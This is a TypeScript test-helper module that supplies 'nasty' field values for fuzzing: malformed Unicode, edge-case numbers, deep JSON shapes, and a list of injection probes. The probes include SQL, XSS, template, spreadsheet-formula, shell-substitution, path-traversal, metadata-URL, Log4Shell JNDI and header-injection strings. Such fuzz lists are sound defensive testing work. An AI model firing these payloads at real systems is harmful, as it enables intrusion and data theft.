/** Field values that break programs. */
import type { Random } from './random.ts';

export const long = (text: string, length: number) => text.repeat(Math.ceil(length / text.length)).slice(0, length);

export const NASTY_TEXTS: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  '\0',
  'a\0b',
  '\ud800',
  'a\udc00b',
  '\ud83d',
  '\ufeffBOM',
  '\uffff',
  // Normalization forms: composed, decomposed, compatibility; one letter with a hundred marks.
  '한글',
  '\u1112\u1161\u11ab\u1100\u1173\u11af',
  'ﬁ①㎏',
  `e${'\u0301'.repeat(100)}`,
  // Direction marks, invisible characters, look-alike letters.
  '\u202eevil\u202c',
  '\u2066a\u2069\u200f',
  'ad\u200bmin',
  '\u2028\u2029\u0085',
  'аdmin',
  'Аdmin@ехample.org',
  'İıſK',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  // Text that other languages would interpret.
  "' or 1=1 --",
  "'; drop table users; --",
  '") or ("1"="1',
  '%27%20or%201%3D1',
  '$1',
  '\\',
  '\\x00',
  '\\u0000',
  '%',
  '_',
  '%%%_%',
  '\x24{7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '//evil.example',
  'http://169.254.169.254/latest/meta-data',
  '\x24{jndi:ldap://evil.example/a}',
  '%0d%0aset-cookie: a=b',
  'a\r\nset-cookie: a=b',
  '*)(uid=*))(|(uid=*',
  '; sleep 10',
  '$(sleep 10)',
  '`sleep 10`',
  // Numbers as texts.
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '-1',
  '+1',
  '0x1f',
  '0b11',
  '1e3',
  '1e309',
  '1_000',
  '1,000',
  '٣',
  '１２',
  '0.1',
  '00000000000000000001',
  '9007199254740993',
  '9223372036854775807',
  '9223372036854775808',
  '18446744073709551616',
  '115792089237316195423570985008687907853269984665640564039457584007913129639936',
  long('9', 100),
  long('9', 5_000),
  '-9223372036854775809',
  // Words with a special meaning somewhere.
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{}',
  '[]',
  // Dates.
  '0000-00-00',
  '2026-02-30T25:61:61Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  'infinity',
  'now()',
  // Nearly valid addresses and ids.
  '0x',
  `0x${'0'.repeat(40)}`,
  `0x${'f'.repeat(40)}`,
  `0X${'AB'.repeat(20)}`,
  `0x${'ab'.repeat(19)}aB`,
  `0x${'gg'.repeat(20)}`,
  '00000000-0000-0000-0000-000000000000',
  'not-a-uuid',
  'a@b',
  '"a b"@example.org',
  'a@[127.0.0.1]',
  'person@example.org\r\nbcc: all@example.org',
  `${'a'.repeat(64)}@${'b'.repeat(180)}.org`,
  // Too much.
  long('a', 256),
  long('가', 1_001),
  long('😀', 10_000),
  long('a', 20_001),
  long('\u0301', 3_000),
  long('a ', 60_000),
  `${long('a', 50_000)}!`,
  long('<b>', 30_000),
];

const NASTY_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  0.1,
  -0.5,
  1e-7,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 32,
  2 ** 53 - 1,
  2 ** 53,
  2 ** 63,
  -(2 ** 63),
  1e21,
  1e300,
  5e-324,
];

const NASTY_SHAPES: readonly string[] = [
  null,
  true,
  false,
  [],
  {},
  [null],
  ['a', 'b'],
  [[[]]],
  { a: 1 },
  { length: 1e9 },
  { toString: 'x', valueOf: 'y' },
  { $gt: '' },
  { $where: 'sleep(1000)' },
  { toJSON: 1 },
  nested(200, 'array'),
  nested(200, 'object'),
  Array(2_000).fill(0),
  Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${i}`, i])),
]
  .map((shape) => JSON.stringify(shape))
  .concat('{"then":"x"}');

/** A value for a field of any type. A new object each time, as it may be broken further. */
export function nastyValue(random: Random): unknown {
  const kind = random.int(10);
  if (kind < 6) return random.pick(NASTY_TEXTS);
  if (kind < 7) return random.pick(NASTY_NUMBERS);
  return JSON.parse(random.pick(NASTY_SHAPES));
}

export function nested(depth: number, kind: 'array' | 'object'): unknown {
  let value: unknown = kind === 'array' ? [] : {};
  for (let i = 0; i < depth; i += 1) value = kind === 'array' ? [value] : { a: value };
  return value;
}
